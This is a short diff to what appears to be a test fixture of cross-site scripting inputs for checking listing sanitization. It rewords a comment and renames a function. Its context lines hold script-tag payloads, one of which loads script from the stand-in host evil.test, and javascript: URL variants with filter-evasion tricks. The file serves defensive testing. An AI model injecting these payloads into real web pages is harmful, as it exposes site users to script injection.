@@ -1,4 +1,4 @@
-/** What people try to have run by whoever reads it (S10). */
+/** What people try to have run by anyone who reads it (S10). */
 export const scripts = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
@@ -69,7 +69,7 @@ export const scripts = [
 ] as const;
 
 /** Addresses that no listing may have (S9). `own`: one that a listener of the test's would hear of. */
-export const badWebsites = (own: string): readonly string[] => [
+export const listBadWebsites = (own: string): readonly string[] => [
   'javascript:alert(1)',
   'JAVASCRIPT:alert(1)',
   'java\tscript:alert(1)',
